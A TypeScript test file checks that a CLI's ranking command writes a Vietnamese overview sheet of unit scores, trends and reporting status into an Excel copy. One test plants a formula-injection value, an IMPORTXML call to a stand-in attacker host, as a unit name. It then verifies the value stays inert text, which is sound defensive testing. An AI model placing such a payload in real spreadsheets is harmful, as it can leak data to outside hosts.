// `rank --out` writes `Tổng quan` into the copy (design §13), read back with ExcelJS: after
// `Xếp hạng`, the file still opening on the ranking; the months' scores and ranks, a text chart for
// the trend (a file has no SPARKLINE, and the copy holds no formula at all), the on-time rate and
// the reporting coloured; printed on A4 landscape, two pages wide for twelve months.
import { join } from "node:path";
import type ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { ensureBuilt, initSample, mutate, readXlsx, run, sheet, tempDir } from "./helpers";

const GREEN = "FFD9EAD3";
const AMBER = "FFFFE599";
const RED = "FFF4C7C3";
const HOSTILE = '=IMPORTXML("http://evil.example/x","//a")';

let july: ExcelJS.Workbook;
let december: ExcelJS.Workbook;
let again: ExcelJS.Workbook;
let hostile: ExcelJS.Workbook;
let ownSheet: ExcelJS.Workbook;

beforeAll(async () => {
  ensureBuilt();
  const dir = tempDir("dx-overview-");
  const sample = await initSample(dir);
  const out = join(dir, "july.xlsx");
  const runs = await Promise.all([
    run(["rank", sample, "--period", "2023-07", "--out", out]),
    run(["rank", sample, "--period", "2023-12", "--out", join(dir, "december.xlsx")]),
  ]);
  // The July copy ranked again for July: its Tổng quan is replaced, not doubled.
  runs.push(await run(["rank", out, "--period", "2023-07", "--out", join(dir, "again.xlsx")]));
  const named = await mutate(sample, join(dir, "hostile-in.xlsx"), (wb) => {
    wb.getWorksheet("Đơn vị")!.getCell("B2").value = HOSTILE;
  });
  runs.push(await run(["rank", named, "--period", "2023-07", "--out", join(dir, "hostile.xlsx")]));
  const own = await mutate(sample, join(dir, "own-in.xlsx"), (wb) => {
    const ws = wb.addWorksheet("Tổng quan");
    ws.getCell("A1").value = "Bảng theo dõi riêng của Văn phòng";
    ws.getCell("B2").value = "Họp giao ban thứ Hai";
  });
  runs.push(await run(["rank", own, "--period", "2023-07", "--out", join(dir, "own.xlsx")]));
  for (const r of runs) expect(r.code, r.stderr).toBe(0);
  [july, december, again, hostile, ownSheet] = await Promise.all(
    ["july", "december", "again", "hostile", "own"].map((f) => readXlsx(join(dir, `${f}.xlsx`))),
  );
}, 120_000);

const rowOf = (ws: ExcelJS.Worksheet, id: string) => {
  for (let r = 1; r <= ws.rowCount; r++) if (ws.getCell(r, 1).value === id) return r;
  throw new Error(`no row for ${id}`);
};
const headerRow = (ws: ExcelJS.Worksheet) => rowOf(ws, "Mã đơn vị") + 1;
const fill = (c: ExcelJS.Cell) => (c.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;

describe("rank --out writes Tổng quan", () => {
  it("right after Xếp hạng, the file still opening on the ranking", () => {
    expect(july.worksheets.map((w) => w.name)).toEqual([
      "Đơn vị",
      "Chỉ tiêu",
      "Số liệu",
      "Thẩm định",
      "Xếp hạng",
      "Tổng quan",
      "Nhật ký",
      "Cài đặt",
    ]);
    expect(july.views[0].activeTab).toBe(4);
    expect(again.worksheets.map((w) => w.name)).toEqual(july.worksheets.map((w) => w.name));
  });

  it("with the title rows, the months and the three blocks under their bands", () => {
    const ws = sheet(july, "Tổng quan");
    expect(ws.getCell(1, 1).value).toBe("TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ");
    expect(ws.getCell(1, 1).font?.size).toBe(14);
    expect(ws.getCell(2, 1).value).toBe(
      "Các tháng 01/2023 – 07/2023: điểm, hạng trong nhóm và việc nộp số liệu (xếp hạng tháng 07/2023).",
    );
    expect(String(ws.getCell(3, 1).value)).toMatch(/^Thời điểm lập: \d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    const h = headerRow(ws);
    const labels = (ws.getRow(h).values as unknown[]).slice(1);
    const months = ["T1/2023", "T2/2023", "T3/2023", "T4/2023", "T5/2023", "T6/2023", "T7/2023"];
    expect(labels.slice(2, 9)).toEqual(months);
    expect(ws.getCell(h - 1, 10).value).toBe("Xu hướng");
    expect(labels.slice(10, 17)).toEqual(months);
    expect(labels.slice(17, 19)).toEqual(["Tỷ lệ đúng hạn", "Số tháng đúng hạn"]);
    expect(labels.slice(19)).toEqual(months);
    expect(ws.getCell(h - 1, 3).value).toBe("Điểm (%)");
    expect(ws.getCell(h - 1, 3).isMerged).toBe(true);
    expect(ws.getCell(h + 1, 1).value).toBe("Nhóm: Sở, ban, ngành (22 đơn vị)");
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: h });
  });

  it("with each month's score as a percent, its rank, and a text chart of the scores", () => {
    const ws = sheet(july, "Tổng quan");
    const r = rowOf(ws, "STP");
    const scores = [3, 4, 5, 6, 7, 8, 9].map((c) => ws.getCell(r, c).value as number);
    for (const s of scores) expect(s).toBeGreaterThan(0.5);
    expect(ws.getCell(r, 3).numFmt).toBe("0.0%");
    const chart = String(ws.getCell(r, 10).value);
    expect(chart.split("\u2009")).toHaveLength(7);
    expect(chart).toMatch(/^[▁▂▃▄▅▆▇█·](\u2009[▁▂▃▄▅▆▇█·]){6}$/);
    expect(Number.isInteger(ws.getCell(r, 11).value)).toBe(true);
  });

  it("with the reporting coloured: the late units amber, a missing month red", () => {
    const ws = sheet(july, "Tổng quan");
    const sct = rowOf(ws, "SCT");
    expect(ws.getCell(sct, 19).value).toMatch(/^\d\/7$/);
    const late = [20, 21, 22, 23, 24, 25, 26].filter((c) => String(ws.getCell(sct, c).value).startsWith("Trễ "));
    expect(late.length).toBeGreaterThanOrEqual(3);
    for (const c of late) expect(fill(ws.getCell(sct, c))).toBe(AMBER);
    const onTime = [20, 21, 22, 23, 24, 25, 26].find((c) => ws.getCell(sct, c).value === "✓");
    expect(fill(ws.getCell(sct, onTime!))).toBe(GREEN);
    const bdt = rowOf(ws, "BDT");
    expect(ws.getCell(bdt, 25).value).toBe("Thiếu");
    expect(fill(ws.getCell(bdt, 25))).toBe(RED);
    expect(fill(ws.getCell(bdt, 8))).toBe("FFE0E0E0");
  });

  it("with no formula anywhere in the copy, a unit named like a formula kept as text", () => {
    for (const wb of [july, hostile]) {
      for (const ws of wb.worksheets)
        ws.eachRow((row) =>
          row.eachCell((c) => {
            expect(c.formula, `${ws.name}!${c.address}`).toBeUndefined();
          }),
        );
    }
    const ws = sheet(hostile, "Tổng quan");
    expect(ws.getCell(rowOf(ws, String(sheet(hostile, "Đơn vị").getCell("A2").value)), 2).value).toBe(HOSTILE);
  });

  it("but never over the workbook's own sheet of that name, which the copy keeps as it was", () => {
    const ws = sheet(ownSheet, "Tổng quan");
    expect(ws.getCell("A1").value).toBe("Bảng theo dõi riêng của Văn phòng");
    expect(ws.getCell("B2").value).toBe("Họp giao ban thứ Hai");
    expect(ws.actualRowCount).toBe(2);
    expect(ownSheet.worksheets.filter((w) => w.name === "Tổng quan")).toHaveLength(1);
    expect(sheet(ownSheet, "Xếp hạng").getCell(2, 1).value).toBe("Kỳ đánh giá: tháng 07/2023");
  });

  it("printed on A4 landscape, one page wide for seven months, two for twelve with the names repeated", () => {
    const ws = sheet(july, "Tổng quan");
    const h = headerRow(ws);
    expect(ws.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: "landscape",
      fitToPage: true,
      fitToWidth: 1,
      printTitlesRow: `${h - 1}:${h}`,
    });
    const year = sheet(december, "Tổng quan");
    expect(year.pageSetup).toMatchObject({ fitToWidth: 2, printTitlesColumn: "A:B" });
    expect(year.getCell(1, 3).value).toBe("TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ");
    expect((year.getRow(headerRow(year)).values as unknown[]).filter((v) => v === "T12/2023")).toHaveLength(3);
  });
});
